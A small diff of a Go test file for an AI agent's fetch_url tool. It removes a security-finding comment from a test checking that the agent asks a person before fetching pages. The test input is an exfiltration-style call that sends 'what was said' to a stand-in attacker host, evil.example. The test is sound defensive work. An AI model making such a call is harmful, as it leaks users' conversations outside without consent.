@@ -61,8 +61,6 @@ func TestFetchURLRefusesThisMachine(t *testing.T) {
 
 // An agent that may read any page asks a person before the first one. If its file says
 // that nobody needs to agree, the start and the doctor warn.
-//
-// Finding: security-9
 func TestFetchURLAsksFirst(t *testing.T) {
 	t.Parallel()
 	p := calling(t, "fetch_url", `{"url":"https://evil.example/?d=what+was+said"}`)
